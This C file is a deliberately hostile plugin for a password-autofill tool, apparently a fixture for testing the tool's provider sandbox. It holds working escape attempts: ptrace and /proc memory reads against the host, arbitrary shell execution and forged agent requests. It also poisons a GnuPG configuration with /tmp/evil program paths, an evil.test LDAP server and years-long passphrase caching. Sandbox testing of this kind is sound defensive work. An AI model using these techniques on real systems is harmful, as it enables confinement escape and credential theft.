/*
 * sandbox_attack_provider.c — a provider that attacks what a sandbox must keep from it, for the
 * tests of the provider sandbox (Tests/autofillCLITests/SandboxAttackTests.swift, docs/SANDBOX.md).
 *
 * At load it saves one password identity: service "attack.test", user "attacker". Its no-UI
 * password request runs the attack named by the setting "Attack" on the setting "Target" and
 * completes the fill with the result as the "password": "ok <detail>" or "denied <errno name>".
 * The test reads it from `autofill fill attack.test --format json`; the fill completing at all
 * proves the host was not stopped, frozen or killed.
 *
 * Attacks:
 *   read-file       open and read Target
 *   write-file      create Target (O_CREAT|O_WRONLY|O_APPEND) and write a line
 *   list-data       list its working folder (its data folder: must work)
 *   ptrace-parent   PTRACE_ATTACH the host (getppid(); "denied ESRCH getppid" when that is 0, the parent
 *                   outside its pid namespace), then detach
 *   read-parent-mem open /proc/<host>/mem and read at a mapped address of the host
 *   signal-parent   kill(host, SIGWINCH): harmless if it lands
 *   open-tty        open /dev/tty (or Target, a terminal path) read-write
 *   fork-daemon     fork; the child tries setsid (reporting it through a pipe) and sleeps 60 s;
 *                   reports "ok fork <child pid> setsid <the child's result>"
 *   connect         TCP connect to 127.0.0.1:Target
 *   exec            fork + execv(Target) with no arguments; reports the child's exit status
 *   environ         reads its first environment, which the kernel keeps for the process's life (what
 *                   /proc/self/environ shows, read from memory): "ok first NAME,NAME… now
 *                   XDG_RUNTIME_DIR=<its value now>"
 *   agent-lock      connects to the agent's socket Target and sends a well-formed request to run
 *                   `autofill lock` (protocol 3, with its descriptors 0-2): "ok reply <tag> <text>",
 *                   "ok closed" when the agent closed without a word, or "denied …"
 *   agent-lock-child the same from a forked child (a process running under the helper)
 *   clone           clone with the namespaces named by Target (user, net, user+net, or none: a plain
 *                   child); the child exits at once; reports "ok cloned, status N"
 *   netlink         socket(AF_NETLINK) of the protocol Target (route, netfilter)
 *   prctl           Target: pdeathsig (PR_SET_PDEATHSIG 0), dumpable (PR_SET_DUMPABLE 1), name
 *                   (PR_SET_NAME), seccomp (PR_SET_SECCOMP with a filter that allows everything)
 *   syscall         the raw system call numbered Target, with zero arguments
 *   io_uring        io_uring_setup with one entry
 *   chmod           chmod(Target, 0644): a file's mode by path (Landlock does not check it)
 *   run             fork + /bin/sh -c Target; reports "ok ran, status N: <the first line of its output>"
 *   connect-unix    connect to the Unix socket at the path Target
 *   gnupg-home      Target is a GnuPG home: appends a line naming /tmp/evil as a program to each of
 *                   gpg-agent.conf, common.conf, gpg.conf, scdaemon.conf and dirmngr.conf there, then
 *                   runs `gpgconf --homedir Target --change-options gpg-agent` (setting
 *                   max-cache-ttl to years) and `gpgconf --homedir Target --reload gpg-agent`; reports
 *                   "ok gpg-agent.conf:<ok|errno> … change-options:<status> reload:<status>"
 *   argv            fork + execv of Target split at '|' (argv[0] a path), output to /dev/null; "ok ran, status N"
 */
#define _GNU_SOURCE
#include "autofill_provider.h"

#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/netlink.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const af_host_services *host;
static char attack[64];
static char target[1024];

#define LIT(s) (s), sizeof(s) - 1

static void setting(const char *key, char *value, size_t capacity) {
    size_t length = 0;
    value[0] = '\0';
    if (host->get_setting(key, strlen(key), value, capacity - 1, &length) == AF_OK) value[length] = '\0';
}

static void denied(char *out, size_t size, const char *what) {
    snprintf(out, size, "denied %s %s", strerrorname_np(errno) ? strerrorname_np(errno) : "?", what);
}

static void put_u32(unsigned char *frame, size_t *at, uint32_t value) {
    for (int shift = 0; shift < 32; shift += 8) frame[(*at)++] = (unsigned char)(value >> shift);
}

static void put_string(unsigned char *frame, size_t *at, const char *text) {
    put_u32(frame, at, (uint32_t)strlen(text));
    memcpy(frame + *at, text, strlen(text));
    *at += strlen(text);
}

/* The agent protocol's `run` of `autofill lock` (AgentProtocol.swift), sent to the socket at Target. */
static void agent_lock(char *out, size_t size) {
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) return denied(out, size, "socket");
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    if (strlen(target) >= sizeof address.sun_path) {
        close(fd);
        errno = ENAMETOOLONG;
        return denied(out, size, "connect");
    }
    memcpy(address.sun_path, target, strlen(target) + 1);
    if (connect(fd, (struct sockaddr *)&address, sizeof address) != 0) {
        int code = errno;
        close(fd);
        errno = code;
        return denied(out, size, "connect");
    }
    unsigned char frame[256];
    size_t at = 4;
    frame[at++] = 0xA1;
    put_u32(frame, &at, 3);        /* version */
    put_string(frame, &at, "");    /* program */
    put_u32(frame, &at, 1);        /* arguments */
    put_string(frame, &at, "lock");
    put_u32(frame, &at, 0);        /* environment */
    size_t length = at - 4;
    at = 0;
    put_u32(frame, &at, (uint32_t)length);
    int fds[3] = {0, 1, 2};
    union {
        char buffer[CMSG_SPACE(sizeof fds)];
        struct cmsghdr align;
    } control;
    memset(&control, 0, sizeof control);
    struct iovec vector = {.iov_base = frame, .iov_len = length + 4};
    struct msghdr message = {.msg_iov = &vector, .msg_iovlen = 1, .msg_control = control.buffer, .msg_controllen = sizeof control.buffer};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof fds);
    memcpy(CMSG_DATA(header), fds, sizeof fds);
    (void)sendmsg(fd, &message, MSG_NOSIGNAL);
    unsigned char reply[2048];
    size_t got = 0;
    for (;;) {
        ssize_t count = read(fd, reply + got, sizeof reply - 1 - got);
        if (count <= 0) break;
        got += (size_t)count;
    }
    close(fd);
    if (got < 5) return (void)snprintf(out, size, "ok closed");
    size_t text = got >= 9 ? 9 : got;
    reply[got] = 0;
    snprintf(out, size, "ok reply %02X %s", reply[4], (char *)reply + text);
}

/* Runs argv (argv[0] a path) with `input` on its standard input, output to /dev/null; its exit status. */
static int run_program(char *const argv[], const char *input) {
    int in[2];
    if (pipe2(in, O_CLOEXEC) != 0) return -1;
    pid_t child = fork();
    if (child < 0) return -1;
    if (child == 0) {
        int null = open("/dev/null", O_WRONLY);
        dup2(in[0], 0);
        dup2(null, 1);
        dup2(null, 2);
        execv(argv[0], argv);
        _exit(errno == EACCES ? 126 : 127);
    }
    close(in[0]);
    if (input) (void)!write(in[1], input, strlen(input));
    close(in[1]);
    int status = 0;
    waitpid(child, &status, 0);
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* The gnupg-home attack: what a provider that could change its GnuPG home would do to run its own program outside. */
static void gnupg_home(char *out, size_t size) {
    static const char *const files[] = {"gpg-agent.conf", "common.conf", "gpg.conf", "scdaemon.conf", "dirmngr.conf"};
    static const char *const lines[] = {"pinentry-program /tmp/evil\n", "use-keyboxd\n", "photo-viewer /tmp/evil\n",
                                        "pcsc-driver /tmp/evil\n", "ldapserver ldap://evil.test\n"};
    size_t used = (size_t)snprintf(out, size, "ok");
    for (size_t i = 0; i < sizeof files / sizeof *files && used < size; i++) {
        char path[1200];
        snprintf(path, sizeof path, "%s/%s", target, files[i]);
        int fd = open(path, O_CREAT | O_WRONLY | O_APPEND | O_CLOEXEC, 0600);
        const char *result = "ok";
        if (fd < 0 || write(fd, lines[i], strlen(lines[i])) < 0) result = strerrorname_np(errno) ? strerrorname_np(errno) : "?";
        if (fd >= 0) close(fd);
        used += (size_t)snprintf(out + used, size - used, " %s:%s", files[i], result);
    }
    char *change[] = {"/usr/bin/gpgconf", "--homedir", target, "--change-options", "gpg-agent", NULL};
    char *reload[] = {"/usr/bin/gpgconf", "--homedir", target, "--reload", "gpg-agent", NULL};
    int changed = run_program(change, "max-cache-ttl:0:99999999\n"); /* passphrases cached for years */
    int reloaded = run_program(reload, NULL);
    if (used < size) snprintf(out + used, size - used, " change-options:%d reload:%d", changed, reloaded);
}

static void run_attack(char *out, size_t size) {
    pid_t parent = getppid();
    /* In namespaces the helper's parent is outside its pid namespace, where getppid() says 0: there is
     * no number that names the host (0 would mean its own process group to kill, and nothing to ptrace). */
    int parent_attack = strcmp(attack, "ptrace-parent") == 0 || strcmp(attack, "read-parent-mem") == 0 ||
                        strcmp(attack, "signal-parent") == 0;
    if (parent_attack && parent == 0) {
        errno = ESRCH;
        return denied(out, size, "getppid");
    }
    if (strcmp(attack, "read-file") == 0) {
        int fd = open(target, O_RDONLY | O_CLOEXEC);
        if (fd < 0) return denied(out, size, "open");
        char buffer[64] = {0};
        ssize_t count = read(fd, buffer, sizeof buffer - 1);
        close(fd);
        if (count < 0) return denied(out, size, "read");
        snprintf(out, size, "ok read %zd bytes", count);
    } else if (strcmp(attack, "write-file") == 0) {
        int fd = open(target, O_CREAT | O_WRONLY | O_APPEND | O_CLOEXEC, 0600);
        if (fd < 0) return denied(out, size, "open");
        ssize_t count = write(fd, "attacked\n", 9);
        close(fd);
        if (count < 0) return denied(out, size, "write");
        snprintf(out, size, "ok wrote");
    } else if (strcmp(attack, "list-data") == 0) {
        DIR *folder = opendir(".");
        if (!folder) return denied(out, size, "opendir");
        int entries = 0;
        while (readdir(folder)) entries++;
        closedir(folder);
        snprintf(out, size, "ok listed %d", entries);
    } else if (strcmp(attack, "ptrace-parent") == 0) {
        if (ptrace(PTRACE_ATTACH, parent, NULL, NULL) != 0) return denied(out, size, "ptrace");
        waitpid(parent, NULL, __WALL);
        ptrace(PTRACE_DETACH, parent, NULL, NULL);
        snprintf(out, size, "ok attached");
    } else if (strcmp(attack, "read-parent-mem") == 0) {
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/maps", (int)parent);
        unsigned long start = 0;
        FILE *maps = fopen(path, "r");
        if (maps) {
            if (fscanf(maps, "%lx-", &start) != 1) start = 0;
            fclose(maps);
        }
        snprintf(path, sizeof path, "/proc/%d/mem", (int)parent);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) return denied(out, size, "open");
        char byte;
        ssize_t count = pread(fd, &byte, 1, (off_t)start);
        close(fd);
        if (count != 1) return denied(out, size, "pread");
        snprintf(out, size, "ok read the host's memory");
    } else if (strcmp(attack, "signal-parent") == 0) {
        if (kill(parent, SIGWINCH) != 0) return denied(out, size, "kill");
        snprintf(out, size, "ok signalled");
    } else if (strcmp(attack, "open-tty") == 0) {
        int fd = open(target[0] ? target : "/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
        if (fd < 0) return denied(out, size, "open");
        close(fd);
        snprintf(out, size, "ok opened");
    } else if (strcmp(attack, "fork-daemon") == 0) {
        int report[2];
        if (pipe2(report, O_CLOEXEC) != 0) return denied(out, size, "pipe");
        pid_t child = fork();
        if (child < 0) return denied(out, size, "fork");
        if (child == 0) {
            /* Leave the helper's session and group, as a daemon does, and say how that went. */
            const char *result = setsid() < 0 ? (strerrorname_np(errno) ? strerrorname_np(errno) : "?") : "ok";
            ssize_t ignored = write(report[1], result, strlen(result));
            (void)ignored;
            close(report[1]);
            for (int i = 0; i < 600; i++) usleep(100000);
            _exit(0);
        }
        close(report[1]);
        char session[32] = {0};
        ssize_t count = read(report[0], session, sizeof session - 1);
        close(report[0]);
        if (count <= 0) snprintf(session, sizeof session, "?");
        snprintf(out, size, "ok fork %d setsid %s", (int)child, session);
    } else if (strcmp(attack, "connect") == 0) {
        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0) return denied(out, size, "socket");
        struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(target))};
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        int status = connect(fd, (struct sockaddr *)&address, sizeof address);
        int code = errno;
        close(fd);
        errno = code;
        if (status != 0) return denied(out, size, "connect");
        snprintf(out, size, "ok connected");
    } else if (strcmp(attack, "exec") == 0) {
        pid_t child = fork();
        if (child < 0) return denied(out, size, "fork");
        if (child == 0) {
            char *const argv[] = {target, NULL};
            execv(target, argv);
            _exit(errno == EACCES ? 126 : errno == EPERM ? 125 : 127);
        }
        int status = 0;
        waitpid(child, &status, 0);
        int code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
        if (code == 126 || code == 125) {
            errno = code == 126 ? EACCES : EPERM;
            return denied(out, size, "execv");
        }
        snprintf(out, size, "ok ran, status %d", code);
    } else if (strcmp(attack, "environ") == 0) {
        /* What /proc/self/environ shows (Landlock denies that file): the strings the kernel put
         * between the arguments and the executable's name on the first stack, there for life. */
        const char *cursor = program_invocation_name, *end = (const char *)getauxval(AT_EXECFN);
        if (cursor == NULL || end == NULL || end <= cursor) return denied(out, size, "getauxval");
        size_t at = (size_t)snprintf(out, size, "ok first ");
        int first = 1;
        for (; cursor < end && at < size; cursor += strlen(cursor) + 1) {
            size_t name = strspn(cursor, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_");
            if (name == 0 || cursor[name] != '=') continue;  /* an argument */
            at += (size_t)snprintf(out + at, size - at, "%s%.*s", first ? "" : ",", (int)name, cursor);
            first = 0;
        }
        const char *runtime = getenv("XDG_RUNTIME_DIR");
        if (at < size) snprintf(out + at, size - at, " now XDG_RUNTIME_DIR=%s", runtime ? runtime : "-");
    } else if (strcmp(attack, "agent-lock") == 0) {
        agent_lock(out, size);
    } else if (strcmp(attack, "agent-lock-child") == 0) {
        int report[2];
        if (pipe2(report, O_CLOEXEC) != 0) return denied(out, size, "pipe");
        pid_t child = fork();
        if (child < 0) return denied(out, size, "fork");
        if (child == 0) {
            char result[1024];
            agent_lock(result, sizeof result);
            (void)write(report[1], result, strlen(result));
            _exit(0);
        }
        close(report[1]);
        ssize_t count = read(report[0], out, size - 1);
        close(report[0]);
        waitpid(child, NULL, 0);
        out[count > 0 ? count : 0] = 0;
    } else if (strcmp(attack, "clone") == 0) {
        unsigned long flags = SIGCHLD;
        if (strstr(target, "user")) flags |= CLONE_NEWUSER;
        if (strstr(target, "net")) flags |= CLONE_NEWNET;
        long child = syscall(SYS_clone, flags, NULL, NULL, NULL, NULL);
        if (child < 0) return denied(out, size, "clone");
        if (child == 0) _exit(0);
        int status = 0;
        waitpid((pid_t)child, &status, 0);
        snprintf(out, size, "ok cloned, status %d", WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
    } else if (strcmp(attack, "netlink") == 0) {
        int protocol = strcmp(target, "netfilter") == 0 ? NETLINK_NETFILTER : NETLINK_ROUTE;
        int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, protocol);
        if (fd < 0) return denied(out, size, "socket");
        close(fd);
        snprintf(out, size, "ok opened");
    } else if (strcmp(attack, "prctl") == 0) {
        int status = -1;
        struct sock_filter allow_all = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
        struct sock_fprog program = {.len = 1, .filter = &allow_all};
        if (strcmp(target, "pdeathsig") == 0) status = prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0);
        else if (strcmp(target, "dumpable") == 0) status = prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
        else if (strcmp(target, "name") == 0) status = prctl(PR_SET_NAME, "attacker", 0, 0, 0);
        else if (strcmp(target, "seccomp") == 0) status = prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0);
        if (status != 0) return denied(out, size, "prctl");
        snprintf(out, size, "ok changed");
    } else if (strcmp(attack, "syscall") == 0) {
        long result = syscall(atol(target), 0, 0, 0, 0, 0, 0);
        if (result < 0) return denied(out, size, "syscall");
        snprintf(out, size, "ok returned %ld", result);
    } else if (strcmp(attack, "io_uring") == 0) {
        char parameters[120] = {0}; /* struct io_uring_params */
        long fd = syscall(SYS_io_uring_setup, 1, parameters);
        if (fd < 0) return denied(out, size, "io_uring_setup");
        close((int)fd);
        snprintf(out, size, "ok set up");
    } else if (strcmp(attack, "chmod") == 0) {
        if (chmod(target, 0644) != 0) return denied(out, size, "chmod");
        snprintf(out, size, "ok changed");
    } else if (strcmp(attack, "run") == 0) {
        int output[2];
        if (pipe2(output, O_CLOEXEC) != 0) return denied(out, size, "pipe");
        pid_t child = fork();
        if (child < 0) return denied(out, size, "fork");
        if (child == 0) {
            dup2(output[1], 1);
            dup2(output[1], 2);
            char *const argv[] = {"sh", "-c", target, NULL};
            execv("/bin/sh", argv);
            _exit(errno == EACCES ? 126 : 127);
        }
        close(output[1]);
        char text[256] = {0};
        size_t used = 0;
        ssize_t count;
        while (used < sizeof text - 1 && (count = read(output[0], text + used, sizeof text - 1 - used)) > 0) used += (size_t)count;
        close(output[0]);
        int status = 0;
        waitpid(child, &status, 0);
        text[strcspn(text, "\n")] = '\0';
        snprintf(out, size, "ok ran, status %d: %s", WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status), text);
    } else if (strcmp(attack, "connect-unix") == 0) {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0) return denied(out, size, "socket");
        struct sockaddr_un address = {.sun_family = AF_UNIX};
        if (strlen(target) >= sizeof address.sun_path) {
            close(fd);
            errno = ENAMETOOLONG;
            return denied(out, size, "connect");
        }
        memcpy(address.sun_path, target, strlen(target) + 1);
        int status = connect(fd, (struct sockaddr *)&address, sizeof address);
        int code = errno;
        close(fd);
        errno = code;
        if (status != 0) return denied(out, size, "connect");
        snprintf(out, size, "ok connected");
    } else if (strcmp(attack, "gnupg-home") == 0) {
        gnupg_home(out, size);
    } else if (strcmp(attack, "argv") == 0) {
        char *argv[16], copy[sizeof target];
        int count = 0;
        snprintf(copy, sizeof copy, "%s", target);
        for (char *save = NULL, *part = strtok_r(copy, "|", &save); part && count < 15; part = strtok_r(NULL, "|", &save)) argv[count++] = part;
        argv[count] = NULL;
        snprintf(out, size, "ok ran, status %d", count ? run_program(argv, NULL) : -1);
    } else {
        snprintf(out, size, "unknown attack %s", attack);
    }
}

static void provide(void *context, af_request_id request, const af_credential_request *credential_request) {
    (void)context;
    (void)credential_request;
    char result[4096];
    run_attack(result, sizeof result);
    host->complete_password(request, LIT("attacker"), result, strlen(result));
}

/* The UI and list entry points ProvidesPasswords requires: they do the same, without any UI. */
static void provide_with_ui(void *context, af_request_id request, const af_credential_request *credential_request) {
    provide(context, request, credential_request);
}

static void list(void *context, af_request_id request, const af_service_identifier *services, size_t count) {
    (void)context;
    (void)services;
    (void)count;
    host->cancel_request(request, AF_ERROR_USER_CANCELED, NULL, 0);
}

static af_provider table = {
    .abi_version = AF_ABI_VERSION,
    .size = sizeof(af_provider),
    .context = NULL,
    .prepare_credential_list = list,
    .provide_credential_without_user_interaction = provide,
    .prepare_interface_to_provide_credential = provide_with_ui,
};

AF_EXPORT const af_provider *attack_provider_entry(uint32_t host_abi_version, const af_host_services *services) {
    if (host_abi_version != AF_ABI_VERSION || services == NULL) return NULL;
    host = services;
    setting("Attack", attack, sizeof attack);
    setting("Target", target, sizeof target);
    af_identity identity = {0};
    identity.kind = AF_IDENTITY_PASSWORD;
    identity.service_type = AF_SERVICE_DOMAIN;
    identity.service = (af_str){LIT("attack.test")};
    identity.user = (af_str){LIT("attacker")};
    host->store_save(&identity, 1);
    return &table;
}
